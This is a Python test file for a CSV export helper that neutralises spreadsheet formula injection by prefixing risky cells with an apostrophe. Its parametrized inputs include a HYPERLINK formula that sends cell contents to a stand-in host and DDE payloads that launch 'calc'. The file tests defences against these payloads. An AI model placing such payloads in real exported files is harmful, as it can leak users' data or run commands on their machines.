"""A list as a file: whatever stands in a cell, a spreadsheet reckons nothing out, and our own import reads it again."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.importing.table import read_table
from web.frame.lists import table_file


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("http://elsewhere.test?"&A1)',
        "+4746123456",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "|calc",
        "%0A=1",
    ],
)
def test_what_a_spreadsheet_would_reckon_out_is_marked_as_words(words: str) -> None:
    assert table_file.cell(words) == "'" + words


@pytest.mark.parametrize("words", ["Kari", "612 00 900", "a=b", "Fredag; laurdag", 'Ho sa "ja"', "to\nlinjer"])
def test_words_are_as_they_were(words: str) -> None:
    assert read(table_file.written(["words"], [[words]])) == [["words"], [words]]


@pytest.mark.parametrize(("value", "stands"), [(-3, "-3"), (1.5, "1.5"), (None, "")])
def test_numbers_are_numbers_and_nothing_is_empty(value: object, stands: str) -> None:
    assert table_file.cell(value) == stands


@given(st.text(max_size=12))
def test_no_cell_begins_as_a_formula(words: str) -> None:
    ((_,), (stands,)) = read(table_file.written(["words"], [[words]]))
    assert not stands.lstrip().startswith(("=", "+", "-", "@"))


def test_the_file_says_how_it_is_written_and_what_it_is_called() -> None:
    answer = table_file.answer("folk", ["namn"], [["Kåre"]])
    assert answer.get_data().startswith(b"\xef\xbb\xbf")
    assert (answer.mimetype, answer.headers["Content-Disposition"]) == ("text/csv", 'attachment; filename="folk.csv"')


def test_a_number_comes_back_as_it_was_when_the_list_is_taken_in_again() -> None:
    file = table_file.written(["phone"], [["+4746123456"]])
    (row,) = read_table(file.encode(), ["phone"], ["phone"])
    assert row.text("phone") == "+4746123456"
